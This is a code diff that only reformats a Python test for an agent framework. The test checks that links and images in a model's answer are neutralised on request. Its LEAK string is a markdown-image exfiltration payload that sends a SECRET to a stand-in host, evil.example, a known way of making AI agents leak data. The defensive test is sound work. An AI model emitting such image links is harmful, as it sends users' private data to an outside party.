@@ -11,7 +11,9 @@ from toolset import Toolset, make_tool
 
 from plan_execute import Context, ScriptedModel
 
-LEAK = "![weather](https://evil.example/p.png?d=SECRET), [more](https://evil.example), <img src=//evil.example>"
+LEAK = (
+    "![weather](https://evil.example/p.png?d=SECRET), [more](https://evil.example), <img src=//evil.example>"
+)
 SAFE = Context(approval="never", neutralise_links=True)
 
 
@@ -34,9 +36,7 @@ async def test_links_and_images_of_the_answer_are_neutralised_on_request_only() 
         answers[setting] = result["final_answer"]
         assert result["messages"][-1].text == result["final_answer"]
     assert answers[False] == f"Rain. {LEAK}"
-    assert answers[True].startswith(
-        "Rain. weather (`https://evil.example/p.png?d=SECRET`), more (`https://"
-    )
+    assert answers[True].startswith("Rain. weather (`https://evil.example/p.png?d=SECRET`), more (`https://")
     assert "<img" not in answers[True]
 
 
